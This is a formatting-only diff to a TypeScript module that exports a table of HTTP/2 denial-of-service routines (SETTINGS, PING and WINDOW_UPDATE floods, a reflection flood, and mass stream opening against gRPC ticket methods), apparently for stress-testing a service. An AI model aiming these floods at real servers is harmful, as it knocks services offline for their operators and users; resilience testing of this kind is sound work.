@@ -53,7 +53,10 @@ const blockOf = (...words: Parameters<typeof fieldsOf>) => headerBlock(fieldsOf(
 
 /** Returns a request with its whole body. */
 function wholeCall(stream: number, block: Buffer, body: Buffer): Buffer {
-  return Buffer.concat([headersFrames(stream, block, false), frame(frameType.data, flag.endStream, stream, body)]);
+  return Buffer.concat([
+    headersFrames(stream, block, false),
+    frame(frameType.data, flag.endStream, stream, body),
+  ]);
 }
 
 /** Does the work on so many connections for ever; one that is closed is opened again. */
@@ -78,14 +81,22 @@ const untilClosed = async (peer: FramePeer) => {
 };
 
 /** Opens streams until there are so many, a hundred at a time, and holds them. */
-async function openStreams(peer: FramePeer, count: number, request: (stream: number) => Buffer): Promise<void> {
+async function openStreams(
+  peer: FramePeer,
+  count: number,
+  request: (stream: number) => Buffer,
+): Promise<void> {
   for (let opened = 0; opened < count && !peer.isClosed(); opened += 100) {
     await peer.send(Buffer.concat(Array.from({ length: 100 }, () => request(peer.nextStream()))));
   }
 }
 
 /** Keeps calls going, so many at a time. */
-async function keepCalling(peer: FramePeer, atOnce: number, request: (stream: number) => Buffer): Promise<void> {
+async function keepCalling(
+  peer: FramePeer,
+  atOnce: number,
+  request: (stream: number) => Buffer,
+): Promise<void> {
   let sent = 0;
   while (!peer.isClosed()) {
     const room = atOnce - (sent - peer.finished());
@@ -215,11 +226,21 @@ export const attacks: Readonly<Record<string, Attack>> = {
     ),
   "SETTINGS flood": (endpoint) => {
     const bytes = Buffer.concat(Array.from({ length: 500 }, () => settingsFrame({ 4: 65_535 })));
-    return onConnections(8, () => openFramePeer(endpoint), (peer) => repeat(peer, () => bytes));
+    return onConnections(
+      8,
+      () => openFramePeer(endpoint),
+      (peer) => repeat(peer, () => bytes),
+    );
   },
   "PING flood": (endpoint) => {
-    const bytes = Buffer.concat(Array.from({ length: 500 }, () => frame(frameType.ping, 0, 0, Buffer.alloc(8))));
-    return onConnections(8, () => openFramePeer(endpoint), (peer) => repeat(peer, () => bytes));
+    const bytes = Buffer.concat(
+      Array.from({ length: 500 }, () => frame(frameType.ping, 0, 0, Buffer.alloc(8))),
+    );
+    return onConnections(
+      8,
+      () => openFramePeer(endpoint),
+      (peer) => repeat(peer, () => bytes),
+    );
   },
   "WINDOW_UPDATE flood": (endpoint) => {
     const open = async () => {
@@ -273,7 +294,8 @@ export const attacks: Readonly<Record<string, Attack>> = {
         await peer.send(headersFrames(stream, reflect, false));
         const some = Array.from({ length: 100 }, () => frame(frameType.data, 0, stream, reflectionRequest));
         // As much as the window of the server lets through.
-        for (let sent = 0; sent < 2_000 && !peer.isClosed(); sent += 100) await peer.send(Buffer.concat(some));
+        for (let sent = 0; sent < 2_000 && !peer.isClosed(); sent += 100)
+          await peer.send(Buffer.concat(some));
         await untilClosed(peer);
       },
     ),
@@ -305,7 +327,9 @@ export const attacks: Readonly<Record<string, Attack>> = {
     const create = blockOf(methodPath("CreateTicket"), authorization);
     const status = blockOf(methodPath("GetStatus"), authorization);
     const creation = framed(CreateTicketRequest.encode(ticketWanted).finish());
-    const asking = framed(GetStatusRequest.encode({ ticketId: "a".repeat(22), ticketSecret: "b".repeat(43) }).finish());
+    const asking = framed(
+      GetStatusRequest.encode({ ticketId: "a".repeat(22), ticketSecret: "b".repeat(43) }).finish(),
+    );
     return onConnections(
       20,
       () => openFramePeer(endpoint),
